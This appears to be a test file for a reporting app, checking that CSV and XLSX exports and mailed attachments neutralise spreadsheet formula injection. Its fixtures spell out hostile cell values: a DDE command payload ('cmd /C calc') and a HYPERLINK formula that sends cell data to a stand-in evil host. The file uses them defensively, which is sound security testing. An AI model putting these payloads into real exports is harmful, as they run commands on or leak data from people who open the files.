/**
 * Exports cannot attack the spreadsheet (docs/security.md, "Exports and spreadsheets"): reports
 * on SQLite and PostgreSQL return hostile values and column names; the CSV download and the CSV
 * mail attachment (through a real SMTP server) are compared byte for byte; the XLSX download and
 * attachment are read back with exceljs and no cell is a formula or a hyperlink.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import { postgresReaderSettings } from '../helpers/databases.ts';
import { postgresReachable } from '../helpers/postgres-database.ts';
import { mimeParts, type SmtpSink, startSmtpSink } from '../helpers/smtp-sink.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

/** The same hostile row in both dialects; `chr` is the dialect's code-point-to-text function. */
const hostileSql = (chr: string) => `select
  '=1+2";=1+2' as "=cmd|' /C calc'!A0",
  '=1+2''" ;,=1+2' as owasp,
  '+1+1' as plus,
  '-2+3' as minus_text,
  '@SUM(A1)' as at,
  ${chr}(9) || '=1' as tab,
  ${chr}(13) || '1' as cr,
  '  =1' as spaced,
  '"=1' as quoted,
  'a;=1' as semicolon,
  -5 as negative_number,
  '-5' as negative_text,
  -0.5 as negative_decimal,
  '＝1' as fullwidth,
  'hello' as plain`;

/** JSON values shaped like the objects exceljs would turn into formulas, links or rich text. */
const objectsSql = (json: (text: string) => string) => `select
  ${json('{"formula":"1+1","result":2}')} as formula_object,
  ${json('{"text":"click","hyperlink":"http://evil.example/"}')} as link_object,
  ${json('{"richText":[{"text":"x"}]}')} as rich_object,
  ${json('{"sharedFormula":"A1"}')} as shared_object,
  ${json('{"error":"#REF!"}')} as error_object,
  'http://evil.example/' as url,
  '=HYPERLINK("http://evil.example/?"&A1,"open")' as hyperlink_formula`;

const NEUTRALISED =
  `"'=cmd|' /C calc'!A0",owasp,plus,minus_text,at,tab,cr,spaced,quoted,semicolon,negative_number,negative_text,negative_decimal,fullwidth,plain\n` +
  `"'=1+2"";=1+2","'=1+2'"" ;,=1+2","'+1+1","'-2+3","'@SUM(A1)","'\t=1","'\r1","'  =1","'""=1","a;=1",-5,-5,-0.5,"'＝1",hello\n`;

const RAW =
  `=cmd|' /C calc'!A0,owasp,plus,minus_text,at,tab,cr,spaced,quoted,semicolon,negative_number,negative_text,negative_decimal,fullwidth,plain\n` +
  `"=1+2"";=1+2","=1+2'"" ;,=1+2",+1+1,-2+3,@SUM(A1),\t=1,"\r1",  =1,"""=1",a;=1,-5,-5,-0.5,＝1,hello\n`;

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const allowedTypes = new Set([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Boolean]);

let t: TestApp;
let smtp: SmtpSink;
let pgOk = false;

async function adminPost(url: string, payload: object) {
  const response = await t.app.server.inject({
    method: 'POST',
    url,
    headers: { authorization: t.adminHeader },
    payload,
  });
  assert.ok(response.statusCode < 300, `${url}: ${response.body}`);
}

before(async () => {
  smtp = await startSmtpSink();
  t = await createTestApp({ SMTP_URL: smtp.url, CUSTOM_MAIL_DOMAINS: 'allowed.example' });
  await adminPost('/api/admin/reports/', {
    name: 'Hostile sqlite',
    cluster: 'demo',
    groups: ['*'],
    sql: hostileSql('char'),
  });
  await adminPost('/api/admin/reports/', {
    name: 'Objects sqlite',
    cluster: 'demo',
    groups: ['*'],
    sql: objectsSql((text) => `json('${text}')`),
  });
  pgOk = await postgresReachable();
  if (!pgOk) return;
  await adminPost('/api/admin/connections/', {
    name: 'injection-pg',
    driver: 'postgres',
    settings: postgresReaderSettings,
  });
  await adminPost('/api/admin/reports/', {
    name: 'Hostile pg',
    cluster: 'injection-pg',
    groups: ['*'],
    sql: hostileSql('chr'),
  });
  await adminPost('/api/admin/reports/', {
    name: 'Objects pg',
    cluster: 'injection-pg',
    groups: ['*'],
    sql: objectsSql((text) => `'${text}'::jsonb`),
  });
});
after(async () => {
  await t.close();
  await smtp.close();
});

const download = (url: string, headers: Record<string, string> = {}) =>
  t.app.server.inject({ url, headers: { authorization: t.adminHeader, ...headers } });

async function workbookOf(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

/** Every cell of every sheet is a plain string, number or boolean, equal to the JSON record. */
async function assertNoFormulas(body: Buffer, records: Array<Record<string, unknown>>) {
  const sheet = (await workbookOf(body)).worksheets[0]!;
  const columns = Object.keys(records[0] ?? {});
  assert.equal(sheet.rowCount, records.length + 1);
  let cells = 0;
  sheet.eachRow((row, r) => {
    row.eachCell((cell, c) => {
      cells++;
      const where = `row ${r} column ${c}`;
      assert.ok(allowedTypes.has(cell.type), `${where} has type ${cell.type}`);
      assert.equal(cell.formula, undefined, where);
      assert.equal(cell.hyperlink, undefined, where);
      const column = columns[c - 1]!;
      const expected = r === 1 ? column : records[r - 2]?.[column];
      // XLSX cells are typed, so strings are written exactly: no `'` is added. (An XML reader
      // turns a bare carriage return into a line feed, XML 1.0 §2.11.)
      const text = typeof expected === 'object' ? JSON.stringify(expected) : expected;
      assert.deepEqual(cell.value, typeof text === 'string' ? text.replace(/\r/g, '\n') : text, where);
    });
  });
  assert.equal(cells, columns.length * (records.length + 1));
}

for (const [dialect, suffix] of [
  ['SQLite', 'sqlite'],
  ['PostgreSQL', 'pg'],
] as const) {
  describe(`${dialect} exports`, () => {
    const skipWithoutServer = (ctx: { skip(message: string): void }) => {
      if (suffix === 'pg' && !pgOk) {
        ctx.skip('PostgreSQL not reachable');
        return true;
      }
      return false;
    };

    test('the CSV download neutralises every formula start, header included', async (ctx) => {
      if (skipWithoutServer(ctx)) return;
      const response = await download(`/api/call/hostile-${suffix}/csv/`);
      assert.equal(response.statusCode, 200, response.body);
      assert.equal(response.body, NEUTRALISED);
      const byAccept = await download(`/api/call/hostile-${suffix}/`, { accept: 'text/csv' });
      assert.equal(byAccept.body, NEUTRALISED);
    });

    test('Accept: text/csv; neutralise=false gives the values exactly', async (ctx) => {
      if (skipWithoutServer(ctx)) return;
      const raw = await download(`/api/call/hostile-${suffix}/csv/`, {
        accept: 'text/csv; header=present; neutralise=false',
      });
      assert.equal(raw.statusCode, 200, raw.body);
      assert.equal(raw.body, RAW);
      const american = await download(`/api/call/hostile-${suffix}/`, {
        accept: 'application/json;q=0.1, text/csv;neutralize="false"',
      });
      assert.equal(american.body, RAW);
      // A parameter of another media type, or neutralise=true, leaves the guard on.
      const other = await download(`/api/call/hostile-${suffix}/csv/`, {
        accept: 'text/plain; neutralise=false, text/csv; neutralise=true',
      });
      assert.equal(other.body, NEUTRALISED);
    });

    test('the XLSX download has no formula or hyperlink cell, JSON objects included', async (ctx) => {
      if (skipWithoutServer(ctx)) return;
      for (const report of [`hostile-${suffix}`, `objects-${suffix}`]) {
        const response = await download(`/api/call/${report}/xlsx/`);
        assert.equal(response.statusCode, 200, response.body);
        assert.equal(response.headers['content-type'], XLSX);
        const records = (await download(`/api/call/${report}/`)).json().records;
        await assertNoFormulas(response.rawPayload, records);
      }
    });

    test('mail attachments: CSV neutralised byte for byte, XLSX without formulas', async (ctx) => {
      if (skipWithoutServer(ctx)) return;
      for (const attach of ['csv', 'xlsx'] as const) {
        smtp.messages.length = 0;
        const response = await t.app.server.inject({
          method: 'POST',
          url: `/report/mail/hostile-${suffix}/`,
          headers: {
            authorization: t.adminHeader,
            'content-type': 'application/x-www-form-urlencoded',
            // Mail is read by people: the raw parameter of downloads does not apply.
            accept: 'text/csv; neutralise=false',
          },
          payload: `_mail_to=ops@allowed.example&_mail_attach=${attach}`,
        });
        assert.equal(response.statusCode, 200, response.body);
        assert.equal(smtp.messages.length, 1);
        const file = mimeParts(smtp.messages[0]!.raw).find(
          (part) => part.filename === `hostile-${suffix}.${attach}`,
        );
        assert.ok(file, `${attach} attachment`);
        if (attach === 'csv') assert.equal(file.text, NEUTRALISED);
        else
          await assertNoFormulas(file.bytes, (await download(`/api/call/hostile-${suffix}/`)).json().records);
      }
    });
  });
}

test('a neutralise value other than true or false is a 400 that names it', async () => {
  const response = await download('/api/call/hostile-sqlite/csv/', { accept: 'text/csv; neutralise=no' });
  assert.equal(response.statusCode, 400);
  assert.deepEqual(response.json(), {
    message: 'The Accept parameter "neutralise" of text/csv must be true or false, not "no"',
    ok: false,
    records: [],
  });
});
